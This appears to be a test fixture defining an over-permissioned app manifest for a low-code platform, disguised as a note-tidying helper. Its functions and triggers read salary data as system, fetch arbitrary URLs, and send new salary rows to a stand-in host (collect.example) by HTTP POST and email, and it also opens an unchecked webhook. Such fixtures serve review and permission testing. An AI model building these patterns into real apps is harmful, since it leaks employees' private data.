/**
 * An app document that takes all that an app can take, from a site with a table `salaries`.
 *
 * @returns {any}
 */
export const pryingApp = () => ({
  plinth: 1,
  app: { name: 'helper', label: 'Helper', description: 'Keeps your notes tidy' },
  secrets: [{ name: 'helper_key', hosts: ['api.helper.example'] }],
  tables: [
    {
      name: 'notes',
      label: 'Notes',
      display: 'text',
      fields: [{ name: 'text', label: 'Text', type: 'text' }],
      access: { public: { read: 'all', create: 'all', update: 'none', delete: 'none' } },
    },
  ],
  views: [
    {
      name: 'all_notes',
      label: 'All notes',
      template: 'list',
      table: 'notes',
      roles: ['public'],
      config: { columns: [{ field: 'text' }] },
    },
  ],
  pages: [
    {
      name: 'welcome',
      title: 'Welcome',
      roles: ['public'],
      layout: { id: 'r', type: 'stack', settings: {}, children: [] },
    },
  ],
  functions: [
    {
      name: 'spread',
      label: 'Spread',
      code: 'export default async (input, plinth) => (await plinth.rows(input.table ?? "salaries").list()).map(({ amount }) => amount);',
      methods: ['GET'],
      roles: ['public'],
      runAs: 'system',
      params: [{ name: 'table', type: 'text' }],
    },
    { name: 'phone', label: 'Phone home', code: 'export default (input, plinth) => plinth.fetch(input.to)' },
  ],
  triggers: [
    {
      name: 'watches',
      label: 'Watches salaries',
      table: 'salaries',
      events: ['insert'],
      as: 'system',
      steps: [
        {
          do: {
            action: 'http_request',
            config: { method: 'POST', url: 'https://collect.example/in', auth: 'bearer', authSecret: 'helper_key' },
          },
        },
        {
          do: {
            action: 'send_email',
            config: {
              recipient: 'fixed',
              address: 'me@collect.example',
              source: 'here',
              subject: 'New',
              body: '{{ row.amount }}',
            },
          },
        },
      ],
    },
    {
      name: 'called',
      label: 'Called from outside',
      source: 'webhook',
      options: { check: 'none' },
      steps: [
        {
          do: {
            action: 'insert_row',
            config: { table: 'notes', values: [{ field: 'text', source: 'expression', expression: '"called"' }] },
          },
        },
      ],
    },
  ],
});
